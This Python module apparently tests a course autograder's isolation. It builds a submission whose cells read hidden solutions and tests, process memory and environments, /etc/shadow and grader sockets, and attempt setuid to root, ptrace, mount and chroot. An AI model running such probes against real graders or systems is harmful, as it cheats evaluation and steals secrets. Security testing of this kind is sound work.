"""A submission that reads what it can of its grader, and shows what it has read wherever its words are shown.

Each cell looks at one thing. Where that is to be had, the cell fails with ``GOT`` and what it found; the functions that
are to be written do the same, so that it would stand with the tests as well. ``TRIED`` comes at the end.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from minigrad.course.assignment import Assignment
from minigrad.course.cells import Cell, to_percent

GOT, TRIED = "GOT", "TRIED"

_TOOLS = f'''
import ctypes, gc, glob, os, re, socket, sys

LOOKS = []

def of(*patterns, most=400):
    """The beginnings of all files of these names that can be read."""
    found = []
    for path in [path for pattern in patterns for path in glob.glob(pattern, recursive=True)]:
        try:
            with open(path, "rb") as file:
                found.append((path, file.read(most)))
        except Exception:
            pass
    return [(path, content) for path, content in found if content]

def look(attempt):
    LOOKS.append(attempt.__name__)
    try:
        found = attempt()
    except Exception:
        found = None
    if found:
        raise RuntimeError(f"{GOT} {{attempt.__name__}} {{found!r}}"[:450])

def by_handle(path):
    """A file opened without its name, which root's right to read all files allows."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0) == 0:
        for place in (".", "/usr"):
            number = libc.open_by_handle_at(os.open(place, os.O_RDONLY), handle, os.O_RDONLY)
            if number >= 0:
                return os.read(number, 400)

def environment():
    """What this process was started with, a secret in it."""
    with open("/proc/self/environ", "rb") as file:
        return [part for part in file.read().split(b"\\0") if SECRET in part]

def memory(process):
    """What stands in a process's memory like a solution or a hidden test."""
    libc = ctypes.CDLL(None)
    libc.prctl(4, 1, 0, 0, 0)
    mark = re.compile(rb"### BEGIN [S]OLUTION")  # which does not find itself
    with open(f"/proc/{{process}}/maps") as maps, open(f"/proc/{{process}}/mem", "rb", 0) as content:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - begin < 1 << 26:
                try:
                    content.seek(begin)
                    found = mark.search(content.read(end - begin))
                except (OSError, ValueError, OverflowError):
                    continue
                if found:
                    return found
'''

_LOOKS = {
    "sources": 'of("{root}/source/**")',
    "solutions": 'of("{root}/source/assignment/*", most=100_000)',
    "the_plan": 'of("{root}/source/plan.json")',
    "the_wheel": 'of("{root}/source/*.whl")',
    "scripts": 'of("{root}/run_autograder", "{root}/setup.sh", "{root}/source/*.sh")',
    "results": 'of("{root}/results/*")',
    "who": 'of("{root}/submission_metadata.json", "{root}/*.json")',
    "all": 'of("{root}/**", "{root}/.*", "{root}/*/.*")',
    "names": 'os.listdir("{root}")',
    "names_below": 'os.listdir("{root}/source") + os.listdir("{root}/results")',
    "sizes": 'os.stat("{root}/source/plan.json")',
    "other_root": 'of("/proc/*/root{root}/source/*", "/proc/*/cwd/source/*", "/proc/*/cwd/*")',
    "own_root": 'of("/proc/self/root{root}/source/*", "/proc/thread-self/root{root}/source/*")',
    "open_files": 'of("/proc/[0-9]*/fd/*")',
    "command_lines": 'of(*[f"/proc/{{n}}/cmdline" for n in OTHERS])',
    "environments": 'of(*[f"/proc/{{n}}/environ" for n in OTHERS])',
    "own_environment": "environment()",
    "own_environment_again": "ctypes.CDLL(None).prctl(4, 1, 0, 0, 0) or environment()",
    "variables": "[text for text in os.environ.values() if SECRET.decode() in text]",
    "own_memory": 'memory("self")',
    "parents_memory": "memory(os.getppid())",
    "all_memory": "[memory(n) for n in OTHERS]",
    "trace": "[n for n in OTHERS if ctypes.CDLL(None).ptrace(16, int(n), 0, 0) == 0]",
    "become_root": "os.setuid(0) or os.getuid() == 0 and 'root'",
    "become_root_again": "os.setresuid(0, 0, 0) or os.getuid() == 0 and 'root'",
    "become_group": "os.setgid(0) or os.getgid() == 0 and 'root'",
    "link": 'os.symlink("{root}/source", "linked") or of("linked/**")',
    "hard_link": 'os.link("{root}/source/plan.json", "hard") or of("hard")',
    "chmod": 'os.chmod("{root}/source", 0o755) or of("{root}/source/*")',
    "rename": 'os.rename("{root}/source", "mine") or of("mine/*")',
    "mount": 'ctypes.CDLL(None).mount(b"{root}", b".", None, 4096, None) == 0 and of("source/*")',
    "chroot": 'os.chroot("{root}") or of("/source/*")',
    "handle": 'os.open("{root}/source/plan.json", os.O_PATH)',
    "handle_of_a_file": 'by_handle("{root}/source/plan.json")',
    "handle_of_a_folder": 'by_handle("{root}/source")',
    "write_results": 'open("{root}/results/results.json", "w")',
    "write_beside": 'open("{root}/results/other", "w")',
    "others_folders": 'of("/tmp/minigrad-*/**", "/tmp/minigrad-*", "/var/tmp/*", "/dev/shm/*")',
    "shadow": 'of("/etc/shadow", "/root/**", "/root/.*")',
    "logs": 'of("/var/log/**")',
    "programs": 'os.popen("cat {root}/source/plan.json; id").read()',
    "objects": '[each for each in gc.get_objects() if type(each).__name__ in ("Assignment", "Test", "Bench", "Plan")]',
    "modules": '[name for name in sys.modules if name in ("minigrad.course.autograder", "minigrad.course.grading")]',
    "texts": '[each for each in gc.get_objects() if type(each) is dict and "seed" in each and "assignment" in each]',
    "sockets": 'socket.create_connection(("127.0.0.1", 22), 1)',
    "the_grader": "socket.socket(fileno=os.dup(3)).recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)",
    "frames": '[frame for frame in sys._current_frames().values() if "Plan" in frame.f_globals]',
}

_IN_A_FUNCTION = """
found = of("{root}/**", "/proc/[0-9]*/fd/*")
found += [path for path, content in of("/proc/[0-9]*/environ") if SECRET in content]
frame = sys._getframe()
while frame:
    texts = [repr(value)[:300] for value in frame.f_locals.values()]
    found += [text for text in texts if re.search("### BEGIN [H]IDDEN", text)]
    frame = frame.f_back
message = f"GOT function {found}"[:450] if found else "TRIED"
raise RuntimeError(message)
"""


def cells(one: Assignment, root: str, secret: str) -> Iterator[Cell]:
    """Give the submission's cells: looks at ``root``, and at what has ``secret`` in it."""
    yield Cell("code", _TOOLS)
    yield Cell(
        "code",
        f"SECRET = {secret!r}.encode()\nMINE = {{str(os.getpid()), 'self', 'thread-self'}}\n"
        "OTHERS = [n for n in os.listdir('/proc') if n.isdigit() and n not in MINE]",
    )
    for name, expression in _LOOKS.items():
        body = expression.format(root=root) if "{root}" in expression else expression.replace("{{n}}", "{n}")
        yield Cell("code", f"@look\ndef {name}():\n    return {body}")
    yield Cell("code", f"raise RuntimeError('{TRIED} ' + str(len(LOOKS)))")
    attempt = _IN_A_FUNCTION.replace("{root}", root).strip().replace("\n", "\n    ")
    for cell in one.submitted:
        stub = "raise NotImplementedError()"
        yield replace(cell, source=cell.source.replace(stub, attempt)) if cell.is_solution else cell


def submission(one: Assignment, root: str, secret: str) -> str:
    """Return the file that is handed in; ``one`` is the assignment as it was released."""
    return to_percent(cells(one, root, secret))


LOOKS = list(_LOOKS)


def texts(value: object) -> Iterator[str]:
    """Give all texts in a result."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for each in value.values():
            yield from texts(each)
    elif isinstance(value, list):
        for each in value:
            yield from texts(each)


def found_in(result: object) -> list[str]:
    """Return the texts of a result that say that a look has found something."""
    return [line for text in texts(result) for line in text.split("\n") if GOT in line]
